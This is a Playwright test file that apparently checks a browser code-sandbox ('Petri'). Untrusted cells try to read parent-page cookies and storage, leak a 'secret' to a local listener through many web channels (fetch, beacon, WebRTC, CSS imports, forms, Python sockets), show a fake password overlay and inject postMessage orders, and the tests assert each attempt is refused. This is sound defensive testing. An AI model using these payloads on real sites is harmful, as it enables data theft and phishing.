import { readFile } from 'node:fs/promises';
import type { Frame, Page } from '@playwright/test';
import type { Petri } from '../../../web/api/petri.ts';
import type { PetriModule } from '../../fixtures/page-runs.ts';
import { PetriPage } from '../../fixtures/petri-page.ts';
import { expect, expectRefused, foundIn, Listener, test, trying } from '../../fixtures/threats.ts';

test.describe.configure({ mode: 'default' });

const HELLO_C = '#include <stdio.h>\nint main(void) { puts("c"); }\n';
const STAGE = '<div id="stage"></div>';
/** The same machine is another site by its other name. */
const OTHER_SITE = { host: 'localhost' };

/** What a docs page has of Petri today: the API, from another origin. */
async function loadPetri(where: Page | Frame, site: string): Promise<void> {
  await where.evaluate(async (address) => {
    const { createPetri } = (await import(address)) as PetriModule;
    Object.assign(globalThis, { petri: await createPetri() });
  }, `${site}petri.js`);
}

/** Runs a cell in such a page, on a stage. */
function runIn(where: Page | Frame, language: string, source: string, timeMs = 20_000): Promise<string> {
  return where.evaluate(
    async (request) => {
      const { petri } = globalThis as unknown as { petri: Petri };
      const stage = document.querySelector('#stage');
      if (stage === null) throw new Error('there is no stage');
      const run = petri.run(request, { stage });
      const { stdout, stderr, outcome, diagnostics } = await run.result;
      return `${outcome}\n${stdout}${stderr}${diagnostics.map(({ message }) => message).join('\n')}`;
    },
    { language, source, limits: { timeMs } },
  );
}

test('threat 20 docs reader: a cell reaches nothing of the page that shows it', async ({
  page,
  docs,
  site,
}) => {
  const attempts = {
    document: `parent.document.title`,
    'top document': `top.document.cookie`,
    'parent storage': `parent.localStorage.session`,
    'own storage': `localStorage.length`,
    cookies: `document.cookie`,
    'cookie store': `(await parent.cookieStore.getAll()).length`,
    'top address': `top.location.href = 'about:blank'`,
    'parent address': `parent.location.replace('about:blank')`,
    'address read': `parent.location.href`,
    popup: `open('about:blank').location`,
    'link to the top': `const a = document.createElement('a'); a.href = 'about:blank'; a.target = '_top'; document.body.append(a); a.click(); return new Promise(() => {})`,
    dialog: `if (prompt('Password?') === null) throw new Error('none')`,
    clipboard: `await navigator.clipboard.readText()`,
    camera: `await navigator.mediaDevices.getUserMedia({ video: true })`,
    position: `await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`,
    'full screen': `await document.documentElement.requestFullscreen()`,
    opener: `opener.document.title`,
    siblings: `parent.frames[0].document.title + parent.frames[1].document.title`,
    eval: `(0, eval)('1')`,
    frame: `const frame = document.createElement('iframe'); frame.srcdoc = '<p>'; document.body.append(frame); await new Promise((r) => (frame.onload = r)); frame.contentWindow.document.title`,
  };
  await page.goto(docs.page('api', STAGE));
  await page.evaluate(() => {
    localStorage.setItem('session', 'secret');
    document.cookie = 'session=secret';
  });
  await loadPetri(page, site);
  const address = page.url();
  const pages = page.context().pages().length;
  const shown = await runIn(page, 'html', `<p>cell</p><script type="module">${trying(attempts)}</script>`);
  expectRefused(foundIn(shown), Object.keys(attempts));
  const worker = await runIn(page, 'javascript', trying(attempts));
  expectRefused(foundIn(worker), Object.keys(attempts));
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(pages);
  expect(await runIn(page, 'javascript', `console.log('next')`)).toBe('exited\nnext\n');
});

/** Ways out for a module, in a worker or in a document; `where` is the listener. */
const exits = (where: string): Record<string, string> => ({
  fetch: `await fetch('http://${where}/?fetch')`,
  'no-cors fetch': `await fetch('http://${where}/?no-cors', { mode: 'no-cors', keepalive: true })`,
  'later fetch': `fetchLater('http://${where}/?later', { activateAfter: 0 }); return new Promise(() => {})`,
  request: `await new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.onload = resolve; r.onerror = reject; r.open('POST', 'http://${where}/?xhr'); r.send('secret'); })`,
  socket: `await new Promise((resolve, reject) => { const s = new WebSocket('ws://${where}/socket'); s.onopen = resolve; s.onerror = reject; })`,
  stream: `await new WebSocketStream('ws://${where}/stream').opened`,
  transport: `await new WebTransport('https://${where}/transport').ready`,
  events: `await new Promise((resolve, reject) => { const s = new EventSource('http://${where}/?events'); s.onopen = resolve; s.onerror = reject; })`,
  module: `const address = 'http://${where}/module.js'; await import(address)`,
  script: `importScripts('http://${where}/script.js')`,
  worker: `await new Promise((resolve, reject) => { const w = new Worker('http://${where}/worker.js'); w.onmessage = resolve; w.onerror = reject; })`,
  font: `await new FontFace('x', 'url(http://${where}/font.woff2)').load()`,
  wasm: `await WebAssembly.compileStreaming(fetch('http://${where}/x.wasm'))`,
  beacon: `if (!navigator.sendBeacon('http://${where}/?beacon', 'secret')) throw new Error('refused'); return new Promise(() => {})`,
});

/** Ways out that need a document. */
const documentExits = (where: string, packets: string): Record<string, string> => ({
  WebRTC: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packets}' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
  picture: `await new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = 'http://${where}/i.png'; })`,
  ...Object.fromEntries(
    ['prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'].map((rel) => [
      rel,
      `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = 'http://${where}/?${rel}'; await new Promise((resolve, reject) => { l.onload = resolve; l.onerror = reject; document.head.append(l); })`,
    ]),
  ),
  ...Object.fromEntries(
    ['iframe', 'embed', 'object', 'video', 'audio', 'script', 'track', 'source', 'input'].map((tag) => [
      `<${tag}>`,
      `const e = document.createElement('${tag}'); e.type = '${tag === 'input' ? 'image' : ''}'; await new Promise((resolve, reject) => { e.onerror = reject; e.src = e.data = 'http://${where}/?${tag}'; document.body.append(e); })`,
    ]),
  ),
  speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${where}/?speculation'], eagerness: 'immediate' }] }); document.head.append(s); return new Promise(() => {})`,
  style: `document.body.style.background = 'url(http://${where}/?style)'; const s = document.createElement('style'); s.textContent = '@import url(http://${where}/?import); @font-face { font-family: y; src: url(http://${where}/?face) } body { font-family: y }'; document.head.append(s); return new Promise(() => {})`,
  form: `const f = document.createElement('form'); f.action = 'http://${where}/?form'; document.body.append(f); f.submit(); return new Promise(() => {})`,
  ping: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://${where}/?ping'; document.body.append(a); a.click(); return new Promise(() => {})`,
  policy: `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri http://${where}/?report"; document.head.append(m); new Image().src = 'data:image/png,'; return new Promise(() => {})`,
  'nested script': `const f = document.createElement('iframe'); f.srcdoc = '<script>new Image().src = "http://${where}/?nested"; new RTCPeerConnection({ iceServers: [{ urls: "stun:${packets}" }] }).createOffer()</scr' + 'ipt>'; document.body.append(f); return new Promise(() => {})`,
  'nested picture': `const f = document.createElement('iframe'); f.srcdoc = '<img src="http://${where}/?nested-picture"><meta http-equiv="refresh" content="0;url=http://${where}/?nested-refresh"><link rel="preconnect" href="http://${where}">'; document.body.append(f); return new Promise(() => {})`,
  // What the policy knows runs in a frame within the preview, too, if something there has the name of the guard.
  'nested guard': `const own = [...document.scripts].find((script) => script.textContent.includes('escape')); const name = '__pe' + 'tri'; for (const tag of ['object', 'embed', 'form', 'a', 'iframe']) { const f = document.createElement('iframe'); f.srcdoc = '<' + tag + ' id="' + name + '" name="' + name + '"></' + tag + '><script>' + own.textContent + '</scr' + 'ipt>'; document.body.append(f); } return new Promise(() => {})`,
});

/** Ways in which a document leads itself elsewhere. */
const leading = (where: string): readonly string[] => [
  `location = 'http://${where}/?location'`,
  `location.replace('http://${where}/?replace')`,
  `const a = document.createElement('a'); a.href = 'http://${where}/?click'; document.body.append(a); a.click()`,
  `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://${where}/?refresh'; document.head.append(m)`,
  `open('http://${where}/?self', '_self')`,
];

/** A script that the policy of the preview knows: within a frame inside of the preview it would have WebRTC. */
const escape = (packets: string): string => `<script>
var escape = 1;
if (self.RTCPeerConnection) {
  var c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packets}' }] });
  c.createDataChannel('x');
  c.createOffer().then((offer) => c.setLocalDescription(offer));
}
</script>`;

const PYTHON = (where: string): string => `import js, json
found = {}
async def attempt(name, work):
    try:
        value = work()
        if hasattr(value, "then") or hasattr(value, "__await__"): value = await value
        found[name] = "reached: " + str(value)
    except BaseException as error: found[name] = "refused: " + type(error).__name__
def urllib():
    import urllib.request
    return urllib.request.urlopen("http://${where}/?urllib").read()
def sockets():
    import socket
    socket.create_connection(("127.0.0.1", ${where.split(':')[1] ?? ''}), 1).send(b"secret")
    raise OSError("whoever listens tells")
def pyodide_http():
    from pyodide.http import open_url
    return open_url("http://${where}/?open_url").read()
await attempt("fetch", lambda: js.fetch("http://${where}/?python"))
await attempt("WebSocket", lambda: js.eval("1") or js.WebSocket.new("ws://${where}"))
await attempt("urllib", urllib)
await attempt("sockets", sockets)
await attempt("open_url", pyodide_http)
print("found" + json.dumps(found))
`;

test('threat 21 docs reader: nothing that a cell knows gets out, by any of the ways there are', async ({
  petri,
  page,
  runs,
  listener,
}) => {
  const out = exits(listener.host);
  const worker = await runs.run({ language: 'javascript', source: trying(out) });
  expectRefused(foundIn(worker), Object.keys(out));
  const python = await runs.run({
    language: 'python',
    source: PYTHON(listener.host),
    limits: { timeMs: 60_000 },
  });
  expectRefused(foundIn(python), ['fetch', 'WebSocket', 'urllib', 'sockets', 'open_url']);
  expect(listener.heard).toEqual([]);

  const all = { ...out, ...documentExits(listener.host, listener.packetHost) };
  const tried = `${escape(listener.packetHost)}<script type="module">${trying(all)}</script>`;
  await petri.openCell({ language: 'html', source: tried, limits: { timeMs: 20_000 } });
  await petri.run();
  await expect(petri.output).toContainText('found');
  // What found no event to wait for is silent: whoever waits outside tells.
  expectRefused(foundIn(await petri.outputText()), Object.keys(all));

  for (const way of leading(listener.host).slice(0, 1)) {
    const source = `<script>${way}\n</script>`;
    await petri.openCell({ language: 'html', source, limits: { timeMs: 1_500 } });
    await petri.run();
  }
  // Another one: a browser uses connections again.
  const display = await Listener.open();
  const markup = `<meta http-equiv="refresh" content="0;url=http://${display.host}/?shown-refresh"><link rel="preconnect" href="http://${display.host}"><link rel="prefetch" href="http://${display.host}/?shown-prefetch"><img src="http://${display.host}/?shown"><style>@import 'http://${display.host}/?shown-style'; p { background: url(http://${display.host}/?shown-url) }</style><p>shown</p><a href="http://${display.host}/?away">away</a><iframe src="http://${display.host}/?shown-frame"></iframe><video poster="http://${display.host}/?poster" src="http://${display.host}/?video"></video><svg><image href="http://${display.host}/?svg"/></svg>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="http://${display.host}/?image" width="9" height="9"/><style>@import url(http://${display.host}/?svg-style)</style></svg>`;
  await petri.openCell({
    language: 'javascript',
    source: `petri.display('text/html', ${JSON.stringify(markup)});
petri.display('image/svg+xml', ${JSON.stringify(svg)});
console.log('displayed');`,
  });
  expect(await petri.run()).toBe('exited 0');
  await page.frameLocator('iframe[title="HTML from the program"]').getByText('away').click();
  await page.waitForTimeout(1_000);
  expect(display.heard).toEqual([]);
  display.close();
  expectOnlyConnections(listener);
  expect(await petri.run()).toBe('exited 0');
  // What was refused is on the browser's console.
  petri.problems.length = 0;
  petri.requests.length = 0;
});

/**
 * No request, no packet. Browsers connect to where a document would lead itself before they refuse it, so that a host's name can
 * tell something: not defended for HTML cells, see public/docs/security.md.
 */
function expectOnlyConnections(listener: Listener): void {
  expect(listener.heard.filter((each) => each !== 'a connection')).toEqual([]);
}

/** The policy that public/docs/security.md gives to pages that use Petri. */
async function documentedPolicy(site: string): Promise<string> {
  const page = await readFile(new URL('../../../public/docs/security.md', import.meta.url), 'utf8');
  const policy = /```\n(default-src [^`]+)```/.exec(page)?.[1];
  if (policy === undefined) throw new Error('no policy is documented');
  return policy.replaceAll(/\s+/g, ' ').replaceAll('https://play.example.org', new URL(site).origin);
}

test('threat 21 docs reader: under the policy that the documentation gives, Petri works and no cell leads its frame away', async ({
  page,
  docs,
  site,
  listener,
}) => {
  await page.goto(docs.page('policy', STAGE, { policy: await documentedPolicy(site) }));
  await loadPetri(page, site);
  expect(await runIn(page, 'c', HELLO_C)).toBe('exited\nc\n');
  expect(await runIn(page, 'html', '<script>console.log("c")</script>')).toBe('exited\nc\n');
  const ways = leading(listener.host).map((way) => runIn(page, 'html', `<script>${way}\n</script>`, 1_500));
  await Promise.all(ways);
  expect(await runIn(page, 'javascript', 'console.log("c")')).toBe('exited\nc\n');
  expectOnlyConnections(listener);
});

test('threat 22 docs reader: what a cell draws stays in its pane, and what is typed into it goes nowhere', async ({
  petri,
  page,
  listener,
}) => {
  const html = `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">
<form action="http://${listener.host}/?password" method="post"><label>Petri password <input name="p" type="password"></label><button>Sign in</button></form>
<p style="height:50000px">Your session has ended.</p></div>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000" style="position:fixed;inset:0"><rect width="50000" height="50000" fill="red"/></svg>`;
  await petri.openCell({
    language: 'javascript',
    source: `petri.display('text/html', ${JSON.stringify(html)});
petri.display('image/svg+xml', ${JSON.stringify(svg)}, { metadata: { alt: 'Petri: sign in' } });
console.log('drawn');`,
  });
  expect(await petri.run()).toBe('exited 0');
  const frame = page.frameLocator('iframe[title="HTML from the program"]');
  await frame.getByLabel('Petri password').fill('secret');
  await frame.getByRole('button', { name: 'Sign in' }).click();
  const box = await page.locator('iframe[title="HTML from the program"]').boundingBox();
  expect(box?.height).toBeLessThanOrEqual(800);
  // Nothing of it lies over what is the page's own.
  const covered = await page.evaluate(() => {
    const own = [...document.querySelectorAll('header button, header a, article button, select')];
    return own.flatMap((element) => {
      const { left, top, width, height } = element.getBoundingClientRect();
      if (width === 0 || top < 0 || top + height > innerHeight) return [];
      const front = document.elementFromPoint(left + width / 2, top + height / 2);
      return front?.matches('iframe, img, canvas') === true ? [element.outerHTML.slice(0, 80)] : [];
    });
  });
  expect(covered).toEqual([]);
  expect(listener.heard).toEqual([]);
  expect(await petri.run()).toBe('exited 0');
  expect(await petri.outputText()).toBe('drawn\n');
  petri.problems.length = 0;
});

/** Everything that somebody who knows the code would post. */
const ORDERS = [
  { petri: 'sandbox', frame: 'parent.postMessage("taken", "*")', worker: '', nonce: '' },
  { type: 'run', id: 1, digest: 'x', setup: {} },
  { html: '<p>injected</p>' },
  { type: 'stop', id: 1 },
  'run',
  null,
];

test('threat 23 cell: a page that posts orders to Petri’s windows moves nothing', async ({
  page,
  docs,
  site,
  petri,
}) => {
  // Two frames of the sandbox in a hostile page: what is no parent of theirs is not heard, and a parent once.
  const address = docs.page(
    'orders',
    `<iframe name="one" sandbox="allow-scripts" src="${site}sandbox.html"></iframe>
<iframe name="own" src="${site}sandbox.html"></iframe>
<iframe name="sibling" srcdoc="<script>onmessage = ({ data }) => { for (const name of ['one', 'own']) parent.frames[name].postMessage(data, '*', [new MessageChannel().port2]); }</script>"></iframe>`,
  );
  await page.goto(address);
  await page.evaluate((orders) => {
    Object.assign(globalThis, { heard: [] as unknown[] });
    addEventListener('message', ({ data, origin }) => {
      (globalThis as unknown as { heard: unknown[] }).heard.push([data, origin]);
    });
    for (const order of orders)
      (frames as unknown as Record<string, Window>)['sibling']?.postMessage(order, '*');
  }, ORDERS);
  const heard = (): Promise<unknown[]> =>
    page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard);
  await page.waitForTimeout(300);
  expect(await heard()).toEqual([]);
  // Its own parent may hand it code: that is the parent's own, and has no origin, however the frame was made.
  await page.evaluate(() => {
    const code = `window.petriStartFrame = () => {
      let storage = 'none';
      try { storage = String(localStorage.length); } catch {}
      parent.postMessage(['taken', self.origin, storage], '*');
    }`;
    for (const name of ['one', 'own', 'one', 'own']) {
      const target = (frames as unknown as Record<string, Window>)[name];
      target?.postMessage({ petri: 'sandbox', frame: code, worker: '', nonce: '' }, '*', [
        new MessageChannel().port2,
      ]);
    }
  });
  await expect.poll(async () => (await heard()).length).toBe(2);
  expect(await heard()).toEqual(Array(2).fill([['taken', 'null', 'none'], 'null']));

  // A page that opened the app posts to it.
  const popup = page.waitForEvent('popup');
  await page.evaluate((app) => Object.assign(globalThis, { app: open(app) }), site);
  const app = await popup;
  await expect(app.getByRole('button', { name: 'Run' })).toBeVisible();
  await page.evaluate((orders) => {
    for (const order of orders) (globalThis as unknown as { app: Window }).app.postMessage(order, '*');
  }, ORDERS);
  await app.waitForTimeout(300);
  await expect(app.getByRole('status', { name: 'Run status' })).toHaveText('Ready');
  await app.close();
  petri.requests.length = 0;
  await petri.openCell({ language: 'javascript', source: 'console.log("works")' });
  expect(await petri.run()).toBe('exited 0');
});

test('threat 24 cell: another site cannot frame the app, and where no header says so it frames one that has nothing of the reader’s', async ({
  docs,
  site,
  own,
}) => {
  const mine = 'console.log("mine")';
  const reader = new PetriPage(await own.newPage(), site);
  await reader.open();
  await reader.choose('javascript');
  await reader.setSource(mine);
  // Saving is not immediate.
  await reader.page.waitForTimeout(1_500);
  await reader.page.reload();
  await expect(reader.editor).toHaveValue(mine);

  const { page } = reader;
  const app = page.frameLocator('iframe');
  const around = docs.page('clicks', `<iframe src="${site}" width="900" height="600"></iframe>`, OTHER_SITE);
  await page.goto(around);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  // As a host without headers serves it.
  await page.route(site, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _policy, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await page.goto(around);
  await expect(app.getByRole('button', { name: 'Run' })).toBeVisible();
  await expect(app.getByRole('textbox', { name: 'Editor' })).not.toHaveValue(mine);
  await expect(app.getByRole('status', { name: 'Run status' })).toHaveText('Ready');
  await page.unroute(site);
  await reader.open();
  await expect(reader.editor).toHaveValue(mine);
  expect(await reader.run()).toBe('exited 0');
});

test('threat 25 embed: without storage, headers or an origin of its own a page runs programs all the same', async ({
  page,
  docs,
  site,
  own,
}) => {
  await page.addInitScript(() => {
    for (const name of ['indexedDB', 'localStorage', 'caches']) {
      Object.defineProperty(globalThis, name, {
        get() {
          throw new DOMException('blocked', 'SecurityError');
        },
      });
    }
  });
  await page.goto(docs.page('api', STAGE));
  await loadPetri(page, site);
  expect(await runIn(page, 'c', HELLO_C)).toBe('exited\nc\n');

  const reader = await own.newPage();
  for (const attributes of ['', 'sandbox="allow-scripts"']) {
    const frame = `<iframe name="docs" ${attributes} src="${docs.page('api', STAGE)}"></iframe>`;
    await reader.goto(docs.page('outer', frame, OTHER_SITE));
    const inner = reader.frame({ name: 'docs' });
    if (inner === null) throw new Error('there is no frame');
    await loadPetri(inner, site);
    for (const [language, source] of [
      ['c', HELLO_C],
      ['javascript', 'console.log("c")'],
      ['html', '<script>console.log("c")</script>'],
    ] as const) {
      expect(await runIn(inner, language, source), `${language} ${attributes}`).toBe('exited\nc\n');
    }
  }
});
